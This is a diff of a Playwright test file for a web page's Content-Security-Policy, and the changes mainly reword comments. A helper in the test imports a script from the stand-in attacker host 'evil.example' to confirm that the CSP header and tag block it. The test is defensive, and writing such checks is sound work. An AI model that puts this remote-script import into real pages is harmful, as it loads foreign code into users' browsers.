@@ -1,4 +1,4 @@
-/** The page's Content-Security-Policy: as the build has written it, and kept by the browser. Every other test fails on a violation too. */
+/** Tests the page's Content-Security-Policy, as built and as enforced. Every other test fails on a violation too. */
 import { readFileSync } from 'node:fs';
 import type { Page } from '@playwright/test';
 import { expect, test } from '../../native-shims/src/playwright.ts';
@@ -13,18 +13,18 @@ async function openHome(page: Page): Promise<void> {
   await expect(page.getByText(zh.home.visitor)).toBeVisible();
 }
 
-/** Does what an attacker's foothold would do: loads code of its own. As text, because the runner would rewrite the import. */
+/** Loads a foreign script, as an attacker would. It is a text, because the runner would rewrite the import. */
 const plantScript = (page: Page) => page.evaluate("import('https://evil.example/a.js').catch(() => undefined)");
 
-/** Takes out what a test has planted: header and tag have each refused it. */
+/** Removes the planted violations, one by the header and one by the tag. */
 async function expectRefused(page: Page, violations: string[], words: RegExp): Promise<void> {
   await expect.poll(() => violations.filter((violation) => words.test(violation))).toHaveLength(2);
-  // What the console says of it has come when the page answers again.
+  // Waits for the console's message, which precedes the page's answer.
   await page.evaluate(() => undefined);
   violations.splice(0);
 }
 
-/** The embedded backend adds the call centre's switch of this machine, which no build names. */
+/** Removes this machine's call centre switch, which the embedded backend adds to the policy. */
 function withoutSwitch(headers: Readonly<Record<string, string>>): Record<string, string> {
   const policy = headers['content-security-policy'] ?? '';
   return { ...headers, 'content-security-policy': policy.replace(/ ws:\/\/localhost:5049 ws:\/\/localhost:14900/, '') };
@@ -117,6 +117,6 @@ test('a violation fails the test, even one that expects its line in the console'
   await openHome(page);
   await plantScript(page);
   await expect.poll(() => violations.length).toBeGreaterThan(0);
-  // The check at the end of every test is what fails now.
+  // The check at the end of every test must fail now.
   test.fail();
 });
